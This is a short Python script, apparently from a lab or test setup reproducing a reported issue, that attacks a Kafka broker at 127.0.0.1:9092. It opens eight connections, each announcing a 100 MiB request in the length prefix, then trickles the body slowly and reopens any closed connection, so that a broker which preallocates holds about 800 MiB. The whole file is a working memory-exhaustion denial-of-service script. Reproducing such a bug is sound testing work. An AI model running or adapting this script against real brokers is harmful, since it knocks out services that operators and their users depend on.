# An attack, as issue 28 found it: eight connections to the broker each announce a request of
# 100 MiB (the 4-byte size that starts every Kafka request) and send its body slowly, so that a
# broker that allocates what it is told holds 800 MiB of buffers. A connection the broker closes
# is opened again. It does none of the lab's work.
import socket
import struct
import time

ANNOUNCED = 100 << 20
conns = {}
while True:
    for i in range(8):
        if i not in conns:
            try:
                s = socket.create_connection(('127.0.0.1', 9092), timeout=5)
                s.sendall(struct.pack('>i', ANNOUNCED))
                conns[i] = s
            except OSError:
                pass
    for i, s in list(conns.items()):
        try:
            s.sendall(b'\0' * 4096)
        except OSError:
            s.close()
            del conns[i]
    time.sleep(0.2)
